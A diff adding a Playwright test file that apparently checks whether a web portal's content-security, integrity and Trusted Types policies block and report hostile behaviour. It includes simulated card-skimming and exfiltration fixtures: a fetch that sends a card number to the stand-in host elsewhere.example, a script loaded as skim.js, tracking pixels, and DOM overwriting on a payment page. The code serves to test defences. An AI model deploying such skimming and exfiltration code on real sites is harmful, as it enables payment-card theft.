@@ -1,0 +1,134 @@
+/** What a policy of a page refuses reaches the edge: once, with whose it was, and with nothing that says whose page it was. */
+import type { BrowserContext, Page } from '@playwright/test';
+import type { Telemetry } from '@portal/shared/remote/telemetry.ts';
+import type { Violation } from '@portal/shared/remote/violations.ts';
+import type { Origin } from '../../deploy/edge/headers.ts';
+import type { Addresses } from './house.ts';
+import { expect, test } from './journey.ts';
+import { openEdge } from './own-edge.ts';
+import { changed, containerOf, deliver, inForceAt, own, releaseWith, REMOTE, sealed } from './registry.ts';
+
+/** An edge that puts `markup` at the head of every page. */
+const edgeWith = (kind: Origin, house: Addresses, markup: string) =>
+  openEdge(kind, house, (edge) =>
+    edge.addHook('onSend', async (_request, _reply, payload) =>
+      typeof payload === 'string' ? payload.replace('<head>', `<head>${markup}`) : payload,
+    ),
+  );
+
+const violation = (policy: string, blocked: string, owner: string): Violation => ({
+  kind: 'violation',
+  policy,
+  blocked,
+  owner,
+});
+
+const inOrder = (lines: readonly Telemetry[]) => lines.map((line) => JSON.stringify(line)).sort();
+
+/** What is told last of all: whatever was told twice has arrived by then. */
+const LAST: Telemetry = {
+  kind: 'load',
+  remote: 'the-journey',
+  version: '1.0.0',
+  ring: 'stable',
+  outcome: 'ended',
+  milliseconds: 0,
+};
+
+async function expectNoted(page: Page, noted: readonly Telemetry[], expected: readonly Violation[]): Promise<void> {
+  const violations = () => inOrder(noted.filter(({ kind }) => kind === 'violation'));
+  await expect.poll(violations).toEqual(inOrder(expected));
+  await page.evaluate((line) => void navigator.sendBeacon('/telemetry', line), JSON.stringify(LAST));
+  await expect.poll(() => noted).toContainEqual(LAST);
+  expect(violations()).toEqual(inOrder(expected));
+}
+
+const FOLDER = `/releases/${REMOTE}/1.1.0/`;
+
+/** A release of a remote that does what no policy allows. */
+const APP = `{
+  mount: async () => {
+    new Image().src = 'https://elsewhere.example/pixel.png';
+    fetch('https://elsewhere.example/take?card=4111111111111111').catch(() => undefined);
+    const script = document.createElement('script');
+    try { script.src = 'https://elsewhere.example/skim.js'; } catch {}
+    script.src = '${FOLDER}more.js';
+    document.head.append(script);
+  },
+  unmount: async () => {},
+}`;
+
+async function releaseTo(context: BrowserContext, house: Addresses, path: string): Promise<void> {
+  const entry = containerOf(REMOTE, '1.1.0', APP);
+  const registry = await inForceAt(house);
+  const screens = [{ path, access: 'public' as const }];
+  const stable = { ...releaseWith(own(registry), '1.1.0', entry), portal: 'public' as const, screens };
+  await deliver(context, sealed(changed(registry, (copy) => Object.assign(own(copy), { stable }))));
+  await context.route(`**${FOLDER}remoteEntry.js*`, (route) =>
+    route.fulfill({ contentType: 'text/javascript', body: entry }),
+  );
+}
+
+test.describe('what a policy refuses', { tag: '@desktop' }, () => {
+  test('in the portal: the content, integrity and Trusted Types policies, of the page and of a remote', async ({
+    page,
+    context,
+    house,
+    guard,
+  }) => {
+    guard.allow(/./);
+    const { version } = own(await inForceAt(house)).stable;
+    const known = `/releases/${REMOTE}/${version}/remoteEntry.js`;
+    const edge = await edgeWith('portal', house, `<script>canary = 1</script><script src="${known}"></script>`);
+    try {
+      await releaseTo(context, house, '/door');
+      await page.goto(`${edge.origin}/door`);
+      await expectNoted(page, edge.noted, [
+        violation('script-src-elem', 'inline', 'shell'),
+        violation('integrity', edge.origin + known, `${REMOTE}@${version}`),
+        // Browsers do not say who asked for a picture.
+        violation('img-src', 'https://elsewhere.example/pixel.png', 'shell'),
+        violation('connect-src', 'https://elsewhere.example/take', `${REMOTE}@1.1.0`),
+        violation('require-trusted-types-for', 'trusted-types-sink', `${REMOTE}@1.1.0`),
+        violation('integrity', `${edge.origin}${FOLDER}more.js`, `${REMOTE}@1.1.0`),
+      ]);
+    } finally {
+      await edge.close();
+    }
+  });
+
+  test('in a payment page: the same policies, and a file that is not the released one', async ({
+    page,
+    context,
+    house,
+    guard,
+  }) => {
+    guard.allow(/./);
+    const edge = await edgeWith('payer', house, '<script>canary = 1</script><script src="/skim.js"></script>');
+    try {
+      const styles = page.waitForRequest(/\/main\.\w+\.css$/);
+      await context.route(/\/main\.\w+\.css$/, async (route) => {
+        const answer = await route.fetch();
+        return route.fulfill({ response: answer, body: `${await answer.text()}\nbody { opacity: 0; }` });
+      });
+      await page.goto(`${edge.origin}/pay/bill/00000000-0000-4000-8000-000000000000`);
+      await expect(page.getByRole('button')).toBeVisible();
+      await page.evaluate(() => {
+        try {
+          document.body.innerHTML = '<b>Pay here</b>';
+        } catch {
+          new Image().src = 'https://elsewhere.example/pixel.png?card=4111111111111111';
+        }
+      });
+      await expectNoted(page, edge.noted, [
+        violation('script-src-elem', 'inline', 'mfe-public-pay'),
+        violation('integrity', `${edge.origin}/skim.js`, 'mfe-public-pay'),
+        violation('integrity', (await styles).url(), 'mfe-public-pay'),
+        violation('require-trusted-types-for', 'trusted-types-sink', 'mfe-public-pay'),
+        violation('img-src', 'https://elsewhere.example/pixel.png', 'mfe-public-pay'),
+      ]);
+    } finally {
+      await edge.close();
+    }
+  });
+});
